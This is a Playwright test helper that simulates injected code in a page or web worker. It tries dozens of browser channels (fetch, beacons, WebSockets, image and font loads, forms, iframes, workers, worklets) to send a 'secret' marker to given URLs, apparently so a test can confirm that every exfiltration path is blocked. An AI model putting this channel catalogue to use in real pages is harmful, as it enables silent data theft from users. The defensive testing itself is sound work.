import type { Page, Worker } from '@playwright/test'

/** Tries every channel of a page against every address, as code that had got into it would. Gives how many attempts were made. */
export function plantInPage(page: Page, urls: string[]): Promise<number> {
  return page.evaluate(async (targets) => {
    let attempts = 0
    const quietly = (work: () => unknown) => {
      attempts++
      try {
        void Promise.resolve(work()).catch(() => undefined)
      } catch {
        // Refused at once: what counts is what arrives.
      }
    }
    const put = <K extends keyof HTMLElementTagNameMap>(tag: K, set: (made: HTMLElementTagNameMap[K]) => void) => {
      const made = document.createElement(tag)
      document.body.append(made)
      set(made)
    }
    const link = (rel: string, href: string, as = '') => put('link', (made) => Object.assign(made, { rel, as, href }))
    for (const target of targets) {
      const at = (name: string) => `${target}/${name}?secret`
      quietly(() => fetch(at('fetch'), { mode: 'no-cors' }))
      quietly(() => fetch(at('keepalive'), { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true }))
      quietly(() => {
        const request = new XMLHttpRequest()
        request.open('POST', at('xhr'))
        request.send('secret')
      })
      quietly(() => new WebSocket(at('websocket').replace('http', 'ws')))
      quietly(() => new EventSource(at('eventsource')))
      quietly(() => navigator.sendBeacon(at('beacon'), 'secret'))
      quietly(() =>
        (globalThis as unknown as { fetchLater(url: string, init: object): unknown }).fetchLater(at('later'), {
          activateAfter: 0
        })
      )
      quietly(() => put('img', (made) => (made.src = at('image'))))
      quietly(() => put('img', (made) => (made.srcset = `${at('srcset')} 2x`)))
      quietly(() => put('div', (made) => (made.style.backgroundImage = `url("${at('css-image')}")`)))
      quietly(() => put('script', (made) => (made.src = at('script'))))
      quietly(() => import(at('import')))
      quietly(() => link('stylesheet', at('style')))
      quietly(() => link('prefetch', at('prefetch')))
      quietly(() => link('preload', at('preload'), 'image'))
      quietly(() => link('modulepreload', at('modulepreload')))
      quietly(() => link('icon', at('icon')))
      quietly(() => new FontFace('planted', `url("${at('font')}")`).load())
      quietly(() => put('iframe', (made) => (made.src = at('frame'))))
      quietly(() => put('object', (made) => (made.data = at('object'))))
      quietly(() => put('embed', (made) => (made.src = at('embed'))))
      quietly(() => put('audio', (made) => (made.src = at('audio'))))
      quietly(() => put('video', (made) => (made.poster = at('poster'))))
      quietly(() =>
        put('form', (made) => {
          put('iframe', (frame) => (frame.name = 'planted'))
          Object.assign(made, { action: at('form'), target: 'planted', method: 'post' })
          made.submit()
        })
      )
      quietly(() => new Worker(at('worker')))
      quietly(() => new SharedWorker(at('shared-worker')))
      quietly(() => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(at('worklet')))
    }
    await new Promise((resolve) => setTimeout(resolve, 1500))
    return attempts
  }, urls)
}

/** The same from inside a living worker. */
export function plantInWorker(worker: Worker, urls: string[]): Promise<number> {
  return worker.evaluate(async (targets) => {
    let attempts = 0
    const quietly = (work: () => unknown) => {
      attempts++
      try {
        void Promise.resolve(work()).catch(() => undefined)
      } catch {
        // Refused at once: what counts is what arrives.
      }
    }
    for (const target of targets) {
      const at = (name: string) => `${target}/worker-${name}?secret`
      quietly(() => fetch(at('fetch'), { mode: 'no-cors' }))
      quietly(() => {
        const request = new XMLHttpRequest()
        request.open('POST', at('xhr'))
        request.send('secret')
      })
      quietly(() => new WebSocket(at('websocket').replace('http', 'ws')))
      quietly(() => new EventSource(at('eventsource')))
      quietly(() => import(at('import')))
      quietly(() => (globalThis as unknown as { importScripts(url: string): void }).importScripts(at('import-scripts')))
      quietly(() => new Worker(at('worker')))
      quietly(() => new FontFace('planted', `url("${at('font')}")`).load())
    }
    await new Promise((resolve) => setTimeout(resolve, 1500))
    return attempts
  }, urls)
}
